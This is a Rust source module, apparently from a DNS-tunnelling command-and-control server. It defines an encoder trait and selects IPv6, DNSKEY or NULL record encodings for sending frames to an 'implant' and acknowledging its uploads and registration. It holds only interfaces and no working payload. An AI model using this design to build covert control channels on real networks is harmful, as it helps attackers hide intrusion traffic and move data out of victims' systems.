//! Three strategies for serializing tunnel frames into DNS answer RDATA.
//! Every encoder exposes the same operations (`spec.md` §4.1); they differ
//! in maximum payload per query and wire layout.

mod dnskey;
mod ipv6;
mod null_encoder;

pub use dnskey::DnsKeyEncoder;
pub use ipv6::Ipv6Encoder;
pub use null_encoder::NullEncoder;

use crate::error::Result;
use crate::wire::RData;

/// A downlink encoding strategy. Implementations never allocate a session;
/// they're pure functions over bytes dressed up as a trait object so the
/// dispatcher can select one per DNS qtype (`spec.md` §4.2).
pub trait Encoder: Send + Sync {
    /// Maximum payload bytes a single `encode_packet` call can carry.
    fn max_packet_size(&self) -> usize;

    /// Header announcing the next subdomain cursor and the size of the
    /// frame now available (0 if none).
    fn encode_data_header(&self, sub_domain: &str, data_size: usize) -> Vec<RData>;

    /// One block of a frame being streamed down to the implant. Errors if
    /// `data.len() > max_packet_size()`.
    fn encode_packet(&self, data: &[u8]) -> Result<Vec<RData>>;

    /// Sentinel: server is ready to receive the next uplink chunk.
    fn encode_ready_receive(&self) -> Vec<RData>;

    /// Sentinel: abandon the current upload/download, start over.
    fn encode_finish_send(&self) -> Vec<RData>;

    /// Sentinel: uplink chunk accepted, send the next one.
    fn encode_send_more_data(&self) -> Vec<RData>;

    /// Registration acknowledgement carrying the freshly allocated
    /// `client_id` and a status byte.
    fn encode_registration(&self, client_id: char, status: u8) -> Vec<RData>;
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EncoderKind {
    Ipv6,
    DnsKey,
    Null,
}

impl EncoderKind {
    pub fn instance(self) -> &'static dyn Encoder {
        match self {
            EncoderKind::Ipv6 => &Ipv6Encoder,
            EncoderKind::DnsKey => &DnsKeyEncoder,
            EncoderKind::Null => &NullEncoder,
        }
    }
}
